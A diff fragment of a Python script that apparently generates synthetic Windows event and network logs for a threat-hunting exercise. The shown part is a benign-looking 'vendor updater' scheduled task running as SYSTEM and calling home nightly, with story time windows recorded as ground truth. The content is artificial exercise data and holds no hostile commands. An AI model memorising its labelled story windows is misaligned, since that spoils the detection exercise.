+                       "schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><CalendarTrigger>"
+                       "<StartBoundary>2026-03-04T03:00:00</StartBoundary><ScheduleByDay><DaysInterval>1"
+                       "</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers><Principals><Principal"
+                       " id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel>"
+                       "</Principal></Principals><Actions Context=\"Author\"><Exec><Command>C:\\Program "
+                       "Files\\Vendor\\Updater\\vupdate.exe</Command><Arguments>--silent</Arguments>"
+                       "</Exec></Actions></Task>"})
+    h.proc(t + timedelta(seconds=240.1), r"C:\Windows\System32\schtasks.exe",
+           'schtasks  /query /tn "VendorUpdater" /v /fo LIST', cmd,
+           meta=msmeta("Task Scheduler Configuration Tool", "schtasks.exe"))
+    t_end = t + timedelta(seconds=609.0)
+    h.emit(t_end, 4647, SEC, {"TargetUserSid": sid("it_admin"), "TargetUserName": "it_admin",
+                              "TargetDomainName": DOMAIN, "TargetLogonId": lid})
+    h.logoff(t_end + timedelta(seconds=2.2), "it_admin", 10, lid)
+    STORY_WINDOWS["vendor-task"] = (t, t_end + timedelta(seconds=2.2))
+    # the task then runs nightly at 03:00 (Wed-Fri) as SYSTEM
+    for dd in (WED, THU, FRI):
+        tt = at(dd, 3, 0, 0.8 + rng.uniform(0, 0.6))
+        vu = h.proc(tt, r"C:\Program Files\Vendor\Updater\vupdate.exe",
+                    r'"C:\Program Files\Vendor\Updater\vupdate.exe" --silent', h.svc_sched,
+                    user="NT AUTHORITY\\SYSTEM", il="System",
+                    meta=("4.2.1.0", "Vendor Updater", "Vendor Update Service", "Vendor Software Inc.",
+                          "vupdate.exe"))
+        conn(tt + timedelta(seconds=1.1), h.ip, rng.randint(49700, 65000), "192.0.2.80", 443, "tcp",
+             "ssl", 0.8, 1_290, 4_410)
+        h.netconn(tt + timedelta(seconds=1.1), vu, "192.0.2.80", 443, port_name="https",
+                  dst_host="updates.vendor.example")
+
+
+# --------------------------------------------------------------------------------------------
 # main
 # --------------------------------------------------------------------------------------------
 
@@ -815,6 +1243,10 @@ def out(*parts: str) -> str:
 
 def main() -> None:
     windows_background()
+    story_phish_to_fileserver()
+    story_svc_backup_windows()
+    story_clock_skew()
+    story_vendor_task()
     counts = {}
     for h in WINHOSTS:
         counts[f"windows/{h.name}.jsonl"] = h.write(out("windows", f"{h.name}.jsonl"))
